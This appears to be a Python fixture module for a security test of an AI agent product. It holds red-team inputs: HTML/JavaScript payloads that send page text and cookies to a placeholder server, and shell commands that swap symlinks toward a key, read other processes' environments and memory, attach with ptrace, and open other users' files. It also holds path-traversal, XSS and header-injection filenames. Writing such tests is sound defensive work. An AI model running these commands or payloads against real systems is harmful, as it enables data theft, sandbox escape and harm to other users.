"""What a red team that had read the documentation tried at the newest doors: an attempt a line, by door.

`FRAMES` are blocks of HTML that are drawn with "Show"; `$E` is a server beside Satchel's. One wins if that server gets a
byte, or the page around it leads elsewhere. (That a browser connects to where a frame wants to go, before the policy
forbids it, is said in the guide.)
`UNDONE` are commands of the model's in the folder `work`; `$O` is a folder beside it with a key. One wins if something
there is changed, by the command's being undone or done again, or the key is kept in the conversation.
`COMMANDS` are those of one person's agent, in mode `bypass`, against the front door, the process that all people's are
copies of, and another person's process and folder. One wins if it prints one of their secrets.
`UPLOADED` are names of files, `PATHS` what is asked for below a conversation's files, and `PARTS` what a front end sends.
"""

from __future__ import annotations

from typing import Any

__all__ = ["COMMANDS", "FRAMES", "PARTS", "PATHS", "UNDONE", "UPLOADED"]

FRAMES: dict[str, str] = {
    "a connection beforehand": '<link rel=preconnect href="$E/"><link rel=dns-prefetch href="$E/">',
    "a connection made by a script": "<script>var l = document.createElement('link'); l.rel = 'preconnect'; l.href = '$E/'; document.head.append(l)</script>",
    "what a page may need": '<link rel=prefetch href="$E/a"><link rel=preload as=image href="$E/b"><link rel=modulepreload href="$E/c">',
    "what a browser asks for itself": '<link rel=manifest href="$E/a"><link rel=icon href="$E/b"><link rel=prerender href="$E/c">',
    "rules of speculation": '<script type=speculationrules>{"prefetch": [{"source": "list", "urls": ["$E/a"]}]}</script>',
    "a refresh": '<meta http-equiv=refresh content="0;url=$E/">',
    "its own address": "<script>location = '$E/?' + document.body.innerText</script>",
    "the page's address": "<script>try { top.location = '$E/' } catch { parent.location = '$E/' }</script>",
    "a new window": "<script>open('$E/')</script>",
    "a form": '<form id=f method=post action="$E/" target=_top><input name=a></form><script>f.submit()</script>',
    "a link with a ping": '<a id=a href="$E/" ping="$E/ping" target=_blank>x</a><script>a.click()</script>',
    "a link to the top": '<a id=a href="$E/" target=_top>x</a><script>a.click()</script>',
    "a download": '<a id=a href="$E/" download>x</a><script>a.click()</script>',
    "a beacon": "<script>navigator.sendBeacon('$E/', 'x')</script>",
    "a request": "<script>fetch('$E/', {mode: 'no-cors', keepalive: true})</script>",
    "events": "<script>new EventSource('$E/')</script>",
    "pictures": '<img src="$E/a"><img srcset="$E/b 2x"><video poster="$E/c" src="$E/d" autoplay></video>',
    "styles": '<style>@import "$E/a"; body { background: url($E/b) } @font-face { font-family: f; src: url($E/c) } p { font-family: f }</style><p>x</p>',
    "frames in it": '<iframe src="$E/a"></iframe><object data="$E/b"></object><embed src="$E/c">',
    "a document in a frame in it": '<iframe srcdoc="<script>location = &quot;$E/&quot;</script><img src=$E/b>"></iframe>',
    "a frame of data": '<iframe src="data:text/html,<img src=$E/>"></iframe>',
    "a document made by a script": "<script>location = URL.createObjectURL(new Blob(['<img src=$E/>'], {type: 'text/html'}))</script>",
    "a worker": "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('$E/')\"])))</script>",
    "scripts from elsewhere": '<script src="$E/a"></script><script>import("$E/b")</script>',
    "a drawing": '<svg><use href="$E/a#x"/><image href="$E/b"/><script href="$E/c"/></svg>',
    "a base": '<base href="$E/"><img src=a><a id=a href=b>x</a><script>a.click()</script>',
    "the history": "<script>try { top.history.back() } catch { location = '$E/' }</script>",
    "the cookie": "<script>try { location = '$E/?' + document.cookie } catch (e) { location = '$E/?' + e }</script>",
    "the page's words": "<script>try { fetch('$E/?' + parent.document.body.innerText) } catch { parent.postMessage('x', '*') }</script>",
    "a worklet": "<script>CSS.paintWorklet?.addModule('$E/')</script>",
    "a report": '<meta http-equiv=Content-Security-Policy content="img-src \'none\'; report-uri $E/"><img src=x>',
    "the page of a link of this server": "<script>fetch('/'); location = '/logout'</script>",
}  # fmt: skip

UNDONE: dict[str, str] = {
    "a link in the place of a folder": "mv d e && ln -s $O d",
    "a link in the place of a file": "rm g && ln -s $O/key g",
    "a new link": "ln -s $O/key new",
    "a link to itself": "rm g && ln -s g g",
    "a link to a process": "rm g && ln -s /proc/self/environ g",
    "a hard link of what was changed": "echo three > g && ln g $O/linked",
    "a pipe": "mkfifo pipe",
    "a pipe in the place of a file": "rm g && mkfifo g",
    "a folder in the place of a file": "rm g && mkdir g && echo x > g/x",
    "a file in the place of a folder": "rm -r d && echo x > d",
    "a file that another user's rights run": "echo '#!' > s && chmod 6777 s && rm g",
    "names that look like folders above": "echo x > ..x && mkdir ... && echo x > .../x",
    "a name with a line's end and an escape": "echo x > \"$(printf 'a\\nb\\033[2J')\"",
    "a name that is no text": "echo x > \"$(printf '\\377\\376')\"",
    "hooks of a repository": "mkdir -p .git/hooks && echo '#!' > .git/hooks/post-checkout",
    "settings of Satchel": "mkdir .satchel && echo x > .satchel/config.toml",
    "what is ignored from now on": "echo g > .gitignore && echo x > g",
    "a file that nobody reads": "echo x > g && chmod 0 g",
    "a file of a terabyte": "truncate -s 1T g",
    "two hundred folders": 'for n in $(seq 200); do mkdir n && cd n || exit; done; echo x > x',
}  # fmt: skip

COMMANDS: dict[str, str] = {
    "environments": "cat /proc/[0-9]*/environ | tr '\\0' '\\n'",
    "environments of the door and the copies": "for p in $PIDS; do cat /proc/$p/environ /proc/$p/cmdline; done",
    "memory": "for p in $PIDS; do head -c1 /proc/$p/mem /proc/$p/maps; cat /proc/$p/maps; done",
    "memory by a debugger": "python3 -c 'import ctypes, sys; l = ctypes.CDLL(None); [print(\"attached\") for p in sys.argv[1:] if not l.ptrace(16, int(p), 0, 0)]' $PIDS",
    "descriptors": "for p in $PIDS; do ls -l /proc/$p/fd && cat /proc/$p/fd/*; done",
    "descriptors taken over": "python3 -c 'import ctypes, os, sys; l = ctypes.CDLL(None); [print(\"taken\") for p in sys.argv[1:] for n in range(20) if l.syscall(438, os.pidfd_open(int(p)), n, 0) >= 0]' $PIDS",
    "roots and folders of processes": "for p in $PIDS; do ls /proc/$p/root /proc/$p/cwd/.satchel; done",
    "signals": "kill -9 $PIDS",
    "the other one's files": "cat $HOME/../ann/.satchel/* $HOME/../ann/files/* $HOME/../.ann/*; ls -R $HOME/../ann",
    "a link to the other one's files": "ln -s $HOME/../ann/files/note.txt $HOME/files/link; cat $HOME/files/link",
    "a hard link to the other one's files": "ln $HOME/../ann/files/note.txt $HOME/files/hard; cat $HOME/files/hard",
    "the administrator's files": "cat $HOME/../../people.json $HOME/../../token $HOME/../../*.key; ls $HOME/../..",
    "sockets of the processes": "python3 -c 'import os, socket; [socket.socket(socket.AF_UNIX).connect(os.environ[\"HOME\"] + f\"/../../door/{n}\") or print(\"attached\") for n in (0, 1)]'",
    "more rights": "python3 -c 'import os; os.setuid(0); print(\"attached\")'; python3 -c 'import os; os.setgroups([0]); print(\"attached\")'",
    "logs": "cat $HOME/../../logs/*; for p in $PIDS; do cat /proc/$p/fd/1 /proc/$p/fd/2; done",
    "shared memory and temporary files": "cat /dev/shm/* /tmp/satchel-people-*/*; ls -R /dev/shm",
}  # fmt: skip

UPLOADED: tuple[str, ...] = (
    "../../etc/passwd", "..\\..\\x.html", "a\0b", "x.html", "x.svg", "<img src=x onerror=alert(1)>.png",
    "a\r\nSet-Cookie: x=1.txt", "\u202egpj.exe", "é" * 900, ".", "..", "/", "CON", ".htaccess", "a;b\"c'.txt", "%2e%2e%2fx",
    "x.png/../../y", " ", "-rf", "\x1b]0;x\x07.txt", "x.xhtml", "x.html.png", "x.js", "x.css", "x.mhtml", "x.xml",
)  # fmt: skip

PATHS: tuple[str, ...] = (
    "..%2f..%2ftoken", "%2e%2e", "....//token", "%00", "x%2fy", "%5c..%5c", "changes", ".", "%252e%252e%252ftoken",
    "..%2fchanges%2fjournal.jsonl", "?framed=1", "%2e%2e%2f%2e%2e%2f%2e%2e%2ftoken?framed=1",
)  # fmt: skip

_PRIVATE = "UFJJVkFURQ=="
PARTS: dict[str, dict[str, Any]] = {
    "an address of a file": {"type": "image", "source": {"type": "url", "value": "file:///etc/passwd"}},
    "an address of a server": {"type": "image", "source": {"type": "url", "value": "http://127.0.0.1:9/"}},
    "a path as data": {"type": "image", "source": {"type": "data", "value": "/etc/passwd"}},
    "a type with folders": {"type": "document", "source": {"type": "data", "value": _PRIVATE, "mimeType": "../../../etc/x"}},
    "a type with a NUL": {"type": "document", "source": {"type": "data", "value": _PRIVATE, "mimeType": "text/plain\0"}},
    "a type that is none": {"type": "document", "source": {"type": "data", "value": _PRIVATE, "mimeType": {"a": 1}}},
    "nothing": {"type": "image", "source": {"type": "data", "value": ""}},
    "what is no base64": {"type": "image", "source": {"type": "data", "value": "é!!"}},
    "twenty megabytes": {"type": "image", "source": {"type": "data", "value": "AAAA" * (5 << 20)}},
    "a binary of another kind": {"type": "binary", "id": "../../token", "mimeType": "image/png"},
}  # fmt: skip
